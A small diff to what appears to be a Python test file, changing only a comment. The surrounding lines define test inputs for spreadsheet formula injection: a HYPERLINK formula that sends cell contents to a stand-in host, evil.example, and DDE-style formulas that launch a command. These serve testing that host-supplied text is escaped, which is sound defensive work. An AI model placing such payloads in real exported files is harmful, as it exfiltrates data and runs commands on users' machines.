@@ -188,7 +188,7 @@ def test_a_stage_folder_name_from_a_host_is_escaped(tmp_path):
     assert 'x\\`&lt;b&gt;\\|y' in md and '<b>' not in md
 
 
-# Issue 29: text from a host that a spreadsheet, matplotlib, pdflatex or a Markdown renderer with math would act on.
+# Text from a host that a spreadsheet, matplotlib, pdflatex or a Markdown renderer with math would act on.
 HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"click")'
 GPU_FORMULA = "@SUM(1+1)*cmd|' /C calc'!A0"
 VERSION_FORMULA = "-2+3+cmd|' /C calc'!A0"
